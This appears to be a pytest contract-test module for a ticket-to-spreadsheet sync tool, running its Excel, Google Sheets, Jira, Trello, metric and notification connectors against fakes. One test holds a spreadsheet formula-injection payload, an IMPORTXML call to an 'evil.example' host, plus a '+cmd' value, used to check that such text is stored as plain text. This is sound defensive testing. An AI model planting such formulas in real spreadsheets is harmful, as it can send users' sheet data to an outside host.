"""Contract tests: what the engine and the worker rely on from every
connector, role by role (sync.core.protocols): sources, sinks, metric
sources, notifiers and alert channels.

Each registered connector type has a harness below that builds it against its
fake (a file on disk, the Jira and Trello HTTP fakes, the Sheets fake, a real
workbook, HTTP mocked with `responses`, an SMTP server on loopback); every
test of a role then runs against every harness of that role.  A new
connector gets its role's suite by adding its harness to SOURCES, SINKS,
METRIC_SOURCES, NOTIFIERS or ALERT_CHANNELS (by its registered type) — and
`test_every_registered_connector_has_a_harness` fails until it does.

The memory source and sink (connectors/memory.py) are not registered types:
they have no config block a file could name, tests build them with tickets
or sheet data in hand.  So they are not in SOURCES and SINKS; the memory
sink still runs `test_a_sink_keeps_nothing_between_calls`.
"""
from __future__ import annotations

import dataclasses
import json
import shutil
import sqlite3
import weakref
from datetime import date, datetime, timedelta, timezone
from pathlib import Path

import openpyxl
import pydantic
import pytest
import responses

from connectors.files.source import FileSource, FileSourceConfig
from connectors.jira.source import JiraSource
from connectors.jira.settings import JiraSourceConfig
from connectors.memory import MemorySink, MemorySource
from connectors.sheets.sink import SheetsSink
from connectors.trello.source import TrelloSource, TrelloSourceConfig
from connectors.xlsx.sink import XlsxSink
from sync.core.assess import metric_feed
from sync.core.errors import AlignSyncError, GuardError
from sync.core.model import Ticket
from sync.core.protocols import AlertChannel, MetricSource, Notifier, Sink, Source
from sync.core.registry import CONNECTORS
from sync.core.strict import SinkBlock
from sync.core.present.alerts import FAILING, Message
from sync.core.present.report import HEADERS, OWNED
from sync.worker.runtime import Runtime
from sync.worker.state import State

from .conftest import FIXTURES, NOW, make_config, sync_over, ticket
from .fakes import URL, FakeJira, make_issues
from .fakes_sheets import FakeSheets
from .test_review import SLACK, TEAMS, digest as review_digest, smtp_server  # noqa: F401 (fixture)

SECRET = "ATATT3xFfGF0-contract-secret"


# --- sinks ------------------------------------------------------------------

class XlsxHarness:
    """A workbook on disk, read back with openpyxl as a person's Excel would."""

    def __init__(self, tmp_path, **sink):
        self.path = tmp_path / "book.xlsx"
        self.config = make_config(sink={"type": "xlsx", "path": str(self.path), **sink})

    def sink(self):
        return XlsxSink(self.config.sink)

    def tabs(self) -> list[str]:
        return openpyxl.load_workbook(self.path).sheetnames

    def rows(self, tab: str) -> list[list]:
        ws = openpyxl.load_workbook(self.path)[tab]
        return [list(r) for r in ws.iter_rows(values_only=True)]

    def type_in(self, tab: str, row: int, col: int, value) -> None:
        wb = openpyxl.load_workbook(self.path)
        wb[tab].cell(row=row + 1, column=col + 1, value=value)
        wb.save(self.path)

    def close(self):
        pass


class SheetsHarness:
    """The real gspread and google-auth clients against the strict Sheets fake."""

    def __init__(self, tmp_path, key_file, **sink):
        self.rsps = responses.RequestsMock(assert_all_requests_are_fired=False)
        self.rsps.start()
        self.fake = FakeSheets(self.rsps)
        self.config = make_config(sink={"type": "google_sheets", "credentials": str(key_file),
                                        "spreadsheet": self.fake.id, **sink})

    def sink(self):
        return SheetsSink(self.config.sink)

    def tabs(self) -> list[str]:
        return list(self.fake.tabs)

    def rows(self, tab: str) -> list[list]:
        width = len(HEADERS.get(tab, ())) or None
        out = []
        for row in self.fake.values(tab):
            row = list(row) + [None] * max(0, (width or 0) - len(row))
            out.append([None if v == "" else v for v in row])
        return out

    def type_in(self, tab: str, row: int, col: int, value) -> None:
        t = self.fake.tabs[tab]
        t["rows"], t["cols"] = max(t["rows"], row + 1), max(t["cols"], col + 1)
        kind = "formulaValue" if str(value).startswith("=") else (
            "numberValue" if isinstance(value, (int, float)) else "stringValue")
        t["cells"][(row, col)] = {"userEnteredValue": {kind: value}}

    def close(self):
        self.rsps.stop()
        self.rsps.reset()


@pytest.fixture(scope="module")
def key_file(tmp_path_factory):
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import rsa
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    pem = key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                            serialization.NoEncryption()).decode()
    path = tmp_path_factory.mktemp("sa") / "sa.json"
    path.write_text(json.dumps({
        "type": "service_account", "project_id": "growth-ops", "private_key_id": "0123abcd",
        "private_key": pem, "client_email": "align-sync@growth-ops.iam.gserviceaccount.com",
        "client_id": "1234567890", "token_uri": "https://oauth2.googleapis.com/token"}))
    return path


SINKS = {
    "xlsx": lambda tmp_path, key_file, **kw: XlsxHarness(tmp_path, **kw),
    "google_sheets": lambda tmp_path, key_file, **kw: SheetsHarness(tmp_path, key_file, **kw),
}


class SinkEnv:
    def __init__(self, harness, tmp_path):
        self.h = harness
        self.state = State(tmp_path / "state.db")

    def sync(self, tickets: list[Ticket], now: datetime = NOW, sink=None, **kw):
        """One sync, by a new sink object unless given one (as a daemon keeps)."""
        return sync_over(self.h.config, [MemorySource("jira", tickets)], sink or self.h.sink(), self.state,
                         now, **kw)

    def table(self, tab: str) -> dict:
        """A tab's rows by their first cell (Tickets by key, Summary by field)."""
        return {r[0]: r for r in self.h.rows(tab)[1:]}


@pytest.fixture(params=sorted(SINKS))
def sink_env(request, tmp_path, key_file):
    harness = SINKS[request.param](tmp_path, key_file)
    env = SinkEnv(harness, tmp_path)
    yield env
    env.state.close()
    harness.close()


def test_every_registered_connector_has_a_harness():
    assert set(CONNECTORS.types("sink")) == set(SINKS)
    assert set(CONNECTORS.types("source")) == set(SOURCES)
    assert set(CONNECTORS.types("metric")) == set(METRIC_SOURCES)
    assert set(CONNECTORS.types("notify")) == set(NOTIFIERS)
    assert set(CONNECTORS.types("alert")) == set(ALERT_CHANNELS)
    # The memory fakes are no registered type (see the module's docstring).
    assert "memory" not in CONNECTORS.types("source") + CONNECTORS.types("sink")


def test_every_sink_block_holds_what_the_core_reads_of_it():
    assert all(issubclass(model, SinkBlock) for model in CONNECTORS.models("sink"))


def _members(protocol) -> set[str]:
    """What a Protocol names: its annotated attributes and its methods."""
    own = {k for k in vars(protocol) if not k.startswith("_")}
    return (own | set(getattr(protocol, "__annotations__", {}))) - {"register"}


def test_a_sink_has_everything_the_protocol_names(sink_env):
    sink = sink_env.h.sink()
    missing = {m for m in _members(Sink) if not hasattr(sink, m)}
    assert not missing, f"{type(sink).__name__} lacks {sorted(missing)}"
    assert sink.location and isinstance(sink.location, str)


@pytest.mark.slow
def test_a_first_write_makes_every_owned_tab_with_its_header(sink_env):
    sink_env.sync([ticket("A-1"), ticket("A-2")])
    tabs = sink_env.h.tabs()
    for tab in [t for t in OWNED if t in HEADERS] + ["History", "Metrics"]:
        assert tab in tabs, tab
        assert sink_env.h.rows(tab)[0][:len(HEADERS[tab])] == HEADERS[tab], tab
    assert set(sink_env.table("Tickets")) == {"A-1", "A-2"}
    assert sink_env.table("Summary")["Tickets in scope"][1] == 2


def test_ticket_text_is_written_as_text(sink_env):
    evil = '=IMPORTXML("https://evil.example/x","//a")'
    sink_env.sync([ticket("F-1", title=evil, owner="+cmd")])
    row = sink_env.table("Tickets")["F-1"]
    assert row[HEADERS["Tickets"].index("Title")] == evil
    assert row[HEADERS["Tickets"].index("Owner")] == "+cmd"


@pytest.mark.slow
def test_people_columns_follow_their_ticket(sink_env):
    sink_env.sync([ticket("A-1"), ticket("A-2"), ticket("A-3")])
    width = len(HEADERS["Tickets"])
    keys = [r[0] for r in sink_env.h.rows("Tickets")[1:]]
    sink_env.h.type_in("Tickets", 0, width, "Notes")
    for i, key in enumerate(keys, start=1):
        sink_env.h.type_in("Tickets", i, width, f"note for {key}")
    sink_env.sync([ticket("A-0"), ticket("A-2"), ticket("A-3")], now=NOW + timedelta(hours=1))
    rows = sink_env.h.rows("Tickets")
    assert rows[0][width] == "Notes"
    notes = {r[0]: (r[width] if len(r) > width else None) for r in rows[1:]}
    assert notes == {"A-0": None, "A-2": "note for A-2", "A-3": "note for A-3"}


@pytest.mark.slow
def test_metrics_are_read_and_never_written(sink_env):
    sink_env.sync([ticket("A-1")])
    sink_env.h.type_in("Metrics", 1, 0, "2026-11-20")
    sink_env.h.type_in("Metrics", 1, 1, "conv_rate")
    sink_env.h.type_in("Metrics", 1, 2, 7.5)
    sink_env.h.type_in("Metrics", 1, 3, "typed by a person")
    before = sink_env.h.rows("Metrics")
    sink_env.sync([ticket("A-1")], now=NOW + timedelta(hours=1))
    assert sink_env.h.rows("Metrics") == before
    scorecard = sink_env.table("Scorecard")["conv"]
    assert scorecard[HEADERS["Scorecard"].index("Current")] == 7.5
    assert scorecard[HEADERS["Scorecard"].index("Progress %")] == 75.0


@pytest.mark.slow
def test_history_is_appended_once_per_period(sink_env):
    sink_env.sync([ticket("A-1")])
    sink_env.sync([ticket("A-1")], now=NOW + timedelta(hours=3))      # within history_every (1d)
    sink_env.sync([ticket("A-1")], now=NOW + timedelta(days=1))
    stamps = [r[0] for r in sink_env.h.rows("History")[1:]]
    assert stamps == ["2026-11-26T09:00:00Z"] * 3 + ["2026-11-27T09:00:00Z"] * 3


def test_a_failed_sync_keeps_the_data_and_sets_last_error(sink_env):
    sink_env.sync([ticket("A-1"), ticket("A-2")])
    before = sink_env.h.rows("Tickets")
    with pytest.raises(GuardError):
        sink_env.sync([], now=NOW + timedelta(days=2))
    assert sink_env.h.rows("Tickets") == before
    summary = sink_env.table("Summary")
    assert "returned no tickets" in summary["Last error"][1]
    assert summary["Last sync"][1] == "2026-11-26T09:00:00Z"


@pytest.mark.slow
def test_a_later_sync_of_one_sink_builds_on_what_people_changed_since(sink_env):
    """A daemon keeps its sink object from sync to sync: each write must
    build on its own sync's read, never on an earlier one's."""
    sink = sink_env.h.sink()
    sink_env.sync([ticket("A-1")], sink=sink)
    sink_env.sync([ticket("A-1")], now=NOW + timedelta(hours=1), sink=sink)    # a read of the sheet
    width = len(HEADERS["Tickets"])
    sink_env.h.type_in("Tickets", 0, width, "Notes")
    sink_env.h.type_in("Tickets", 1, width, "typed between syncs")
    written = sink_env.h.rows("History")[1:]
    back_filled = ["2026-11-01T00:00:00Z"] + list(written[0][1:])    # a person adds an earlier snapshot
    for col, value in enumerate(back_filled):
        sink_env.h.type_in("History", len(written) + 1, col, value)
    sink_env.sync([ticket("A-1")], now=NOW + timedelta(days=1), sink=sink)
    stamps = [r[0] for r in sink_env.h.rows("History")[1:]]
    assert stamps == [written[0][0]] * len(written) + ["2026-11-01T00:00:00Z"] + \
        ["2026-11-27T09:00:00Z"] * len(written)
    assert sink_env.table("Tickets")["A-1"][width] == "typed between syncs"


class _Watched:
    """A sink whose reads leave a weak reference to what they returned for the write."""

    def __init__(self, sink):
        self.sink, self.bases = sink, []

    def __getattr__(self, name):
        return getattr(self.sink, name)

    def read(self):
        inputs = self.sink.read()
        self.bases.append(weakref.ref(inputs.basis))
        return inputs


@pytest.mark.slow
def test_nothing_a_sync_read_outlives_its_sync(sink_env):
    """What a write builds on (100k rows of Tickets, in a big sheet) is
    dropped with the sync, written or failed: the sink does not keep it, nor
    does the result or the error the engine hands back."""
    sink = sink_env.h.sink()
    sink_env.sync([ticket("A-1")], sink=sink)              # a sheet to read back
    watched = _Watched(sink)
    result = sink_env.sync([ticket("A-1")], now=NOW + timedelta(hours=1), sink=watched)
    with pytest.raises(GuardError) as failed:
        sink_env.sync([], now=NOW + timedelta(hours=2), sink=watched)
    assert result.written and failed.value and len(watched.bases) == 2
    assert [ref() for ref in watched.bases] == [None, None]


def _snapshot(value, seen: frozenset = frozenset()):
    """A value as comparable data, deep through containers, dataclasses and
    pydantic models, so a list or dict filled in place shows.  Any other
    object compares by identity: a sink may hold a connection it opens on
    first use (its HTTP session), never what a sync read."""
    if isinstance(value, (str, bytes, int, float, bool, type(None), Path, date)):
        return value
    if id(value) in seen:
        return ("cycle", id(value))
    seen = seen | {id(value)}
    kind = type(value).__name__
    if isinstance(value, dict):
        return (kind, id(value), [(_snapshot(k, seen), _snapshot(v, seen)) for k, v in value.items()])
    if isinstance(value, (list, tuple, set, frozenset)):
        items = sorted(value, key=repr) if isinstance(value, (set, frozenset)) else value
        return (kind, id(value), [_snapshot(v, seen) for v in items])
    if dataclasses.is_dataclass(value) and not isinstance(value, type):
        return (kind, id(value), [(f.name, _snapshot(getattr(value, f.name), seen))
                                  for f in dataclasses.fields(value)])
    if isinstance(value, pydantic.BaseModel):
        return (kind, id(value), [(k, _snapshot(v, seen)) for k, v in value])
    return (kind, id(value))


def test_the_snapshot_sees_a_container_filled_in_place():
    holder = {"rows": [[1, 2]], "tabs": {}}
    before = _snapshot(holder)
    holder["rows"][0].append(3)
    assert _snapshot(holder) != before
    before = _snapshot(holder)
    holder["tabs"]["Tickets"] = []
    assert _snapshot(holder) != before


class MemoryHarness:
    def __init__(self, tmp_path):
        self.config = make_config()

    def sink(self):
        return MemorySink()

    def close(self):
        pass


@pytest.mark.slow
@pytest.mark.parametrize("kind", sorted(SINKS) + ["memory"])
def test_a_sink_keeps_nothing_between_calls(kind, tmp_path, key_file):
    """read, write and write_error change no attribute of the sink: what a
    write builds on comes back from `read` (SheetInputs.basis) and goes in
    as an argument, so nothing of a sync outlives it on the sink."""
    harness = MemoryHarness(tmp_path) if kind == "memory" else SINKS[kind](tmp_path, key_file)
    env = SinkEnv(harness, tmp_path)
    try:
        sink = harness.sink()
        before = _snapshot(vars(sink))
        env.sync([ticket("A-1"), ticket("A-2")], sink=sink)                         # a new sheet
        env.sync([ticket("A-1"), ticket("A-3")], now=NOW + timedelta(days=1), sink=sink)   # on it
        with pytest.raises(GuardError):
            env.sync([], now=NOW + timedelta(days=2), sink=sink)                     # Last error
        sink.write_error("without a read", NOW + timedelta(days=2))
        assert _snapshot(vars(sink)) == before
    finally:
        env.state.close()
        harness.close()


@pytest.mark.parametrize("kind", sorted(SINKS))
def test_the_owners_tab_can_be_switched_off(kind, tmp_path, key_file):
    harness = SINKS[kind](tmp_path, key_file, owners_tab=False)
    env = SinkEnv(harness, tmp_path)
    try:
        env.sync([ticket("A-1")])
        assert "Owners" not in harness.tabs()
    finally:
        env.state.close()
        harness.close()


# --- sources ----------------------------------------------------------------

class FileHarness:
    """A saved Jira search response on disk."""

    def __init__(self, tmp_path):
        self.path = tmp_path / "export.json"
        shutil.copy(FIXTURES / "jira_search_jql_page1.json", self.path)
        self.raw = json.loads(self.path.read_text())
        self.keys = {i["key"] for i in self.raw["issues"]}

    def source(self):
        return FileSource(FileSourceConfig(type="file", path=str(self.path)), "file")

    def break_access(self):
        self.path.unlink()

    def close(self):
        pass


class JiraHarness:
    """The real `jira` client against the Jira Cloud fake."""

    def __init__(self, tmp_path):
        self.rsps = responses.RequestsMock(assert_all_requests_are_fired=False)
        self.rsps.start()
        self.fake = FakeJira(self.rsps, make_issues(120, NOW - timedelta(days=5)))
        self.keys = {i["key"] for i in self.fake.issues}
        self.config = JiraSourceConfig.model_validate(dict(
            type="jira", url=URL, auth={"email": "ops@acme.test", "token": SECRET},
            jql="project = GROW", fields={"estimate": "Story point estimate"}))

    def source(self):
        return JiraSource(self.config, "jira")

    def break_access(self):
        body = {"errorMessages": ["Client must be authenticated to access this resource."], "errors": {}}
        self.fake.failures += [(401, {}, body)] * 10
        for path in ("2/serverInfo", "2/field"):
            self.rsps.replace(responses.GET, f"{URL}/rest/api/{path}", status=401, json=body)

    def close(self):
        self.rsps.stop()
        self.rsps.reset()


class TrelloHarness:
    """The real py-trello client against the Trello API, mocked with a real board export."""
    API = "https://api.trello.com/1"

    def __init__(self, tmp_path):
        board = json.loads((FIXTURES / "trello_board_export.json").read_text())
        self.rsps = responses.RequestsMock(assert_all_requests_are_fired=False)
        self.rsps.start()
        self.rsps.add(responses.GET, f"{self.API}/members/me/boards", json=[
            {"id": board["id"], "name": board["name"], "shortLink": "hKKRg4wu", "closed": False}])
        self.rsps.add(responses.GET, f"{self.API}/members/me", json={"id": "m9", "fullName": "Sync Bot"})
        self.rsps.add(responses.GET, f"{self.API}/boards/{board['id']}", json=board)
        archived = {lst["id"] for lst in board["lists"] if lst.get("closed")}
        self.keys = {c["shortLink"] for c in board["cards"] if not c.get("closed") and c["idList"] not in archived}
        self.config = TrelloSourceConfig.model_validate(dict(
            type="trello", auth={"key": "a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6", "token": SECRET},
            boards=[board["name"]], done_lists=["Shipped"], estimate_field="Points"))

    def source(self):
        return TrelloSource(self.config, "trello")

    def break_access(self):
        self.rsps.replace(responses.GET, f"{self.API}/members/me/boards", status=401, body="invalid token")

    def close(self):
        self.rsps.stop()
        self.rsps.reset()


SOURCES = {"file": FileHarness, "jira": JiraHarness, "trello": TrelloHarness}


@pytest.fixture(params=sorted(SOURCES))
def source_env(request, tmp_path):
    harness = SOURCES[request.param](tmp_path)
    state = State(tmp_path / "state.db")
    yield harness, state
    state.close()
    harness.close()


def test_a_source_has_everything_the_protocol_names(source_env):
    harness, _ = source_env
    source = harness.source()
    missing = {m for m in _members(Source) if not hasattr(source, m)}
    assert not missing, f"{type(source).__name__} lacks {sorted(missing)}"
    assert source.writeback in (None, "labels") and isinstance(source.archived, int)


def test_a_fetch_yields_every_ticket_once_as_a_ticket(source_env):
    harness, state = source_env
    tickets = list(harness.source().fetch(state, NOW))
    assert all(isinstance(t, Ticket) for t in tickets)
    keys = [t.key for t in tickets]
    assert len(keys) == len(set(keys)) and all(keys)
    assert set(keys) == harness.keys
    assert {t.source for t in tickets} == {harness.source().name}
    assert all(t.updated is None or t.updated.tzinfo is not None for t in tickets)


def test_a_second_fetch_after_a_commit_sees_the_same_tickets(source_env):
    harness, state = source_env
    first = {t.key: t for t in harness.source().fetch(state, NOW)}
    state.commit(NOW, NOW, len(first))
    later = NOW + timedelta(minutes=15)
    second = {t.key: t for t in harness.source().fetch(state, later)}
    assert second.keys() == first.keys()
    assert all(second[k].title == first[k].title and second[k].done == first[k].done for k in first)


def test_a_refused_source_raises_our_error_without_the_secret(source_env):
    harness, state = source_env
    harness.break_access()
    with pytest.raises(AlignSyncError) as err:
        list(harness.source().fetch(state, NOW))
    assert SECRET not in str(err.value)
    assert str(err.value).strip()


# --- metric sources -----------------------------------------------------------

def _built(role: str, data: dict, *args):
    """A connector as the workspace builds it: its block validated by its
    registered model, then its registered factory."""
    kind = CONNECTORS.kind(role, data["type"])
    return kind.build(kind.model.model_validate(data), *args)


READINGS = [("2026-11-22", "conv_rate", 7.1), ("2026-11-23", "conv_rate", 7.2)]


class SqlMetricHarness:
    """A SQLite table, read with the query a team would write."""

    def __init__(self, tmp_path, key_file):
        self.db = tmp_path / "kpi.db"
        with sqlite3.connect(self.db) as db:
            db.execute("CREATE TABLE kpi (day TEXT, metric TEXT, value REAL)")
            db.executemany("INSERT INTO kpi VALUES (?, ?, ?)", READINGS)
        db.close()
        self.config = {"type": "sql", "name": "warehouse", "url": f"sqlite:///{self.db}",
                       "query": "SELECT day AS date, metric, value FROM kpi WHERE day >= :since"}
        self.sink, self.secret = None, None        # a SQLite file has no password to leak

    def break_access(self):
        self.db.unlink()

    def close(self):
        pass


class DownloadHarness:
    """A CSV or JSON file behind https with a bearer token, mocked with `responses`."""

    def __init__(self, tmp_path, key_file, kind: str):
        self.url = f"https://bi.example.com/kpi.{kind}"
        body = ("date,metric,value\n" + "".join(f"{d},{m},{v}\n" for d, m, v in READINGS)
                if kind == "csv" else json.dumps([dict(date=d, metric=m, value=v) for d, m, v in READINGS]))
        self.rsps = responses.RequestsMock(assert_all_requests_are_fired=False)
        self.rsps.start()
        self.rsps.add(responses.GET, self.url, body=body)
        self.config = {"type": kind, "name": "bi", "url": self.url,
                       "headers": {"Authorization": f"Bearer {SECRET}"}}
        self.sink, self.secret = None, SECRET

    def break_access(self):
        self.rsps.replace(responses.GET, self.url, status=401, body=f"token Bearer {SECRET} refused")

    def close(self):
        self.rsps.stop()
        self.rsps.reset()


class SheetsMetricHarness:
    """Another spreadsheet, read with the sink's account (the Sheets fake)."""

    def __init__(self, tmp_path, key_file):
        self.base = SheetsHarness(tmp_path, key_file)
        self.finance = FakeSheets(self.base.rsps, sheet_id="1financeFAKE")
        kpis = FakeSheets._tab(7, "KPIs", 1, 10, 3)
        for row, cells in enumerate([("Date", "Metric", "Value")] + READINGS):
            for col, value in enumerate(cells):
                kind = "numberValue" if isinstance(value, float) else "stringValue"
                kpis["cells"][(row, col)] = {"userEnteredValue": {kind: value}}
        self.finance.tabs["KPIs"] = kpis
        self.config = {"type": "google_sheets", "name": "finance", "spreadsheet": "1financeFAKE",
                       "range": "KPIs!A:C"}
        self.sink, self.secret = SheetsSink(self.base.config.sink), None

    def break_access(self):
        self.finance.failures["get"] += [(403, {"error": {"code": 403, "status": "PERMISSION_DENIED",
                                                          "message": "The caller does not have permission"}})]

    def close(self):
        self.base.close()


METRIC_SOURCES = {
    "sql": SqlMetricHarness,
    "csv": lambda tmp_path, key_file: DownloadHarness(tmp_path, key_file, "csv"),
    "json": lambda tmp_path, key_file: DownloadHarness(tmp_path, key_file, "json"),
    "google_sheets": SheetsMetricHarness,
}


@pytest.fixture(params=sorted(METRIC_SOURCES))
def metric_harness(request, tmp_path, key_file):
    harness = METRIC_SOURCES[request.param](tmp_path, key_file)
    yield harness
    harness.close()


def _metric_source(harness):
    return _built("metric", harness.config, Runtime(), harness.sink)


def test_a_metric_source_has_everything_the_protocol_names(metric_harness):
    source = _metric_source(metric_harness)
    missing = {m for m in _members(MetricSource) if not hasattr(source, m)}
    assert not missing, f"{type(source).__name__} lacks {sorted(missing)}"
    assert source.name == metric_harness.config["name"]


def test_a_metric_source_reads_rows_the_metrics_tab_takes(metric_harness):
    """Its (date, metric, value) rows, as read, are what metric_feed folds in."""
    source = _metric_source(metric_harness)
    rows = list(source.read(date(2026, 11, 1)))
    assert all(len(row) == 3 for row in rows)
    merged = metric_feed.merge([], [metric_feed.Fetched(source.name, rows)], make_config(), NOW)
    assert merged.problems == []
    assert merged.rows.added == [[d, m, v, f"from {source.name}"] for d, m, v in READINGS]


def test_a_refused_metric_source_raises_our_error_without_the_secret(metric_harness):
    source = _metric_source(metric_harness)
    metric_harness.break_access()
    with pytest.raises(AlignSyncError) as err:
        list(source.read(date(2026, 11, 1)))
    said = f"{err.value} {err.value.hint}"
    assert str(err.value).strip()
    assert metric_harness.secret is None or metric_harness.secret not in said


# --- notifiers and alert channels -----------------------------------------------

class WebhookTargetHarness:
    """A Slack or Teams webhook, its HTTP mocked with `responses` (as in test_review)."""

    def __init__(self, request, kind: str, url: str, refusal: tuple[int, str]):
        self.kind, self.url, self.refusal = kind, url, refusal
        self.secret = url
        self.rsps = responses.RequestsMock(assert_all_requests_are_fired=False)
        self.rsps.start()

    def target(self, refused: bool = False) -> dict:
        status, body = self.refusal if refused else (200, "ok")
        self.rsps.add(responses.POST, self.url, status=status, body=body)
        return {"type": self.kind, "webhook": self.url}

    def delivered(self) -> list[str]:
        return [json.dumps(json.loads(c.request.body)) for c in self.rsps.calls if c.response.status_code < 300]

    def close(self):
        self.rsps.stop()
        self.rsps.reset()


class EmailTargetHarness:
    """A real SMTP server on loopback with STARTTLS and a login (aiosmtpd, test_review's)."""

    def __init__(self, request):
        self.inbox, self.port = request.getfixturevalue("smtp_server")
        self.secret = "s3cret-pass"

    def target(self, refused: bool = False) -> dict:
        if refused:
            self.secret = "wrong-pass-0f1e2d"     # the server refuses the login; it is still a secret
        return {"type": "email", "smtp": f"127.0.0.1:{self.port}", "starttls": True, "username": "bot",
                "password": self.secret, "from": "align-sync@example.com", "to": ["leads@example.com"]}

    def delivered(self) -> list[str]:
        return [e.content.decode() for e in self.inbox.messages]

    def close(self):
        pass


# The same targets serve the review (role notify) and alerts (role alert);
# a type registered for one role needs its harness in that role's dict.
_TARGETS = {
    "slack": lambda request: WebhookTargetHarness(request, "slack", SLACK, (404, "no_service")),
    "teams": lambda request: WebhookTargetHarness(request, "teams", TEAMS, (404, "")),
    "email": EmailTargetHarness,
}
NOTIFIERS = dict(_TARGETS)
ALERT_CHANNELS = dict(_TARGETS)
SHEET = "https://docs.google.com/spreadsheets/d/abc"


def _target_env(request, harnesses):
    harness = harnesses[request.param](request)
    request.addfinalizer(harness.close)
    return harness


@pytest.fixture(params=sorted(NOTIFIERS))
def notify_harness(request):
    return _target_env(request, NOTIFIERS)


@pytest.fixture(params=sorted(ALERT_CHANNELS))
def alert_harness(request):
    return _target_env(request, ALERT_CHANNELS)


ALERT = Message(target="", kind=FAILING, workspace="growth", failures=2, since=NOW, error="Jira: HTTP 503",
                sheet=SHEET, at=NOW)
# role -> (its protocol, what one delivery is sent, words its message carries)
ROLES = {"notify": (Notifier, lambda: (review_digest(), SHEET), "Weekly review 2026-11-30"),
         "alert": (AlertChannel, lambda: (ALERT,), "align-sync growth: syncs are failing")}


@pytest.fixture(params=[("notify", t) for t in sorted(NOTIFIERS)] + [("alert", t) for t in sorted(ALERT_CHANNELS)],
                ids=lambda param: "-".join(param))
def target_env(request):
    role, kind = request.param
    harness = (NOTIFIERS if role == "notify" else ALERT_CHANNELS)[kind](request)
    request.addfinalizer(harness.close)
    return role, harness


def _deliverer(role: str, harness, refused: bool = False):
    return _built(role, harness.target(refused), Runtime())


def test_a_target_has_everything_its_protocol_names(target_env):
    role, harness = target_env
    built = _deliverer(role, harness)
    missing = {m for m in _members(ROLES[role][0]) if not hasattr(built, m)}
    assert not missing, f"{type(built).__name__} lacks {sorted(missing)}"
    assert built.id and built.label and harness.secret not in built.id + built.label


def test_a_delivery_sends_one_message_to_the_target(target_env):
    role, harness = target_env
    _, payload, words = ROLES[role]
    _deliverer(role, harness).send(*payload())
    (sent,) = harness.delivered()
    assert words in sent


def test_a_refused_delivery_raises_our_error_naming_the_target_without_the_secret(target_env):
    role, harness = target_env
    built = _deliverer(role, harness, refused=True)
    with pytest.raises(AlignSyncError) as err:
        built.send(*ROLES[role][1]())
    assert err.value.message.startswith(built.label)
    assert harness.secret not in f"{err.value} {err.value.hint}"
    assert harness.delivered() == []
